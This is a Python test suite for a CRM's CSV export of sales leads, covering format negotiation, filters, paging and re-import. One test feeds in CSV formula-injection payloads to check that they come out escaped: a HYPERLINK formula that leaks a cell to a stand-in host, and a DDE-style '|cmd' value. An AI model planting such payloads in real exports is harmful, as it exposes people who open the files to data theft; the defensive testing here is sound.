"""Leads as a table: all that the filters let through, safe to open, and fit to be imported again."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy import text

from coachway.domain.sales.views import LeadView
from coachway.entrypoints.api.sales import leads as lead_controller
from coachway.entrypoints.bootstrap import Platform
from tests.api_client import ApiClient
from tests.integration.sales.office import LEADS, open_office
from tests.integration.sales.test_importing import send

_SEED = """
    INSERT INTO sales.leads (first_name, last_name, email, status, source, duplicate_lead_ids, created_at, updated_at,
                             version)
    SELECT 'Ann', 'Lee', 'ann' || n || '@example.com', CASE WHEN n % 2 = 0 THEN 'new' ELSE 'dead' END, 'web', '{}',
           now(), now(), 1
    FROM generate_series(1, :count) AS n
"""


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline=""), strict=True))


async def seed(platform: Platform, count: int) -> None:
    async with platform.engine.begin() as connection:
        await connection.execute(text(_SEED), {"count": count})


async def test_a_table_says_what_json_says(api: ApiClient) -> None:
    office = await open_office(api, {})
    await office.take(email="twice@example.com", estimated_value="1520.50", estimated_trip_date="2026-05-04")
    await office.take(
        email="twice@example.com", phone="212 555 0123", trip_details='To the "sea",\nand back', first_name="Zoë"
    )
    answer = await office.manager.get(f"{LEADS}?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="leads-2026-03-02.csv"'
    rows, leads = rows_of(answer), (await office.manager.get(LEADS)).json()
    assert list(rows[0]) == list(LeadView.__dataclass_fields__) == list(leads[0])
    for row, lead in zip(rows, leads, strict=True):
        plain = lead | {"duplicate_lead_ids": " ".join(map(str, lead["duplicate_lead_ids"]))}
        if lead["estimated_value"] is not None:
            plain["estimated_value"] = "1520.50"
        assert row == {name: "" if value is None else str(value) for name, value in plain.items()}


@pytest.mark.parametrize(
    ("query", "accept", "is_table"),
    [
        ("", None, False),
        ("", "*/*", False),
        ("", "text/csv", True),
        ("", "application/json, text/csv;q=0.5", False),
        ("", "text/csv, application/json;q=0.5", True),
        ("", "text/*", True),
        ("?format=csv", "application/json", True),
        ("?format=json", "text/csv", False),
    ],
)
async def test_who_wants_a_table_gets_one(api: ApiClient, query: str, accept: str | None, is_table: bool) -> None:
    agent = await api.as_("agent")
    answer = await agent.get(f"{LEADS}{query}", headers={"Accept": accept} if accept else {})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv" if is_table else "application/json")


async def test_all_that_the_filters_let_through_is_there_once_newest_first(
    api: ApiClient, platform: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lead_controller, "EXPORTED_AT_ONCE", 100)
    await seed(platform, 1050)
    agent = await api.as_("agent")
    answer = await agent.get(f"{LEADS}?format=csv&status=new&count=true")
    assert answer.headers["x-total-count"] == "525"
    ids = [int(row["id"]) for row in rows_of(answer)]
    assert len(ids) == 525
    assert ids == sorted(set(ids), reverse=True)
    assert {row["status"] for row in rows_of(answer)} == {"new"}
    assert [row["email"] for row in rows_of(await agent.get(f"{LEADS}?format=csv&q=ann1050@"))] == [
        "ann1050@example.com"
    ]
    assert rows_of(await agent.get(f"{LEADS}?format=csv&q=nobody")) == []
    assert (await agent.get(f"{LEADS}?format=csv&created_from=soon")).status_code == 422
    assert (await agent.get(f"{LEADS}?format=xml")).status_code == 422


async def test_a_limit_makes_a_page_of_it(api: ApiClient, platform: Platform) -> None:
    await seed(platform, 25)
    agent = await api.as_("agent")
    seen = []
    page = await agent.get(f"{LEADS}?format=csv&limit=10&count=true")
    assert page.headers["x-total-count"] == "25"
    while True:
        seen += [int(row["id"]) for row in rows_of(page)]
        if "link" not in page.headers:
            break
        page = await agent.get(page.headers["link"].split(">")[0].lstrip("<"))
    assert len(seen) == 25
    assert seen == sorted(set(seen), reverse=True)


async def test_no_cell_is_a_formula(api: ApiClient) -> None:
    office = await open_office(api)
    evil = '=HYPERLINK("http://x.example?"&A1;"click")'
    await office.take(first_name=evil, last_name="@SUM(1)", phone="212 555 0123", trip_details="-1+1|cmd")
    (row,) = rows_of(await office.manager.get(f"{LEADS}?format=csv"))
    assert (row["first_name"], row["last_name"], row["trip_details"]) == (f"'{evil}", "'@SUM(1)", "'-1+1|cmd")
    assert row["phone"] == "+12125550123"


async def test_an_export_can_be_imported_and_says_the_same_again(api: ApiClient) -> None:
    office = await open_office(api)
    await office.take(
        first_name="=1+1", phone="212 555 0123", trip_details='"sea"\r\nand, back', estimated_value="0.10"
    )
    await office.take(last_name="'t Hooft", source="walk_in", estimated_passengers=3, estimated_trip_date="2026-05-04")
    exported = await office.manager.get(f"{LEADS}?format=csv")
    told = await send(office.manager, exported.content)
    assert (told.json()["created"], told.json()["errors"]) == (2, [])
    again = rows_of(await office.manager.get(f"{LEADS}?format=csv"))
    named = list(lead_controller.NewLead.__struct_fields__)
    copies, originals = [[[row[name] for name in named] for row in half] for half in (again[:2], again[2:])]
    assert copies == originals[::-1]  # newest first, and the first row is the older copy


async def test_an_export_keeps_no_connection_while_its_reader_is_slow(api: ApiClient, platform: Platform) -> None:
    await seed(platform, 10)
    agent = await api.as_("agent")
    await agent.get(f"{LEADS}?format=csv")
    assert platform.engine.pool.checkedout() == 0  # type: ignore[attr-defined]
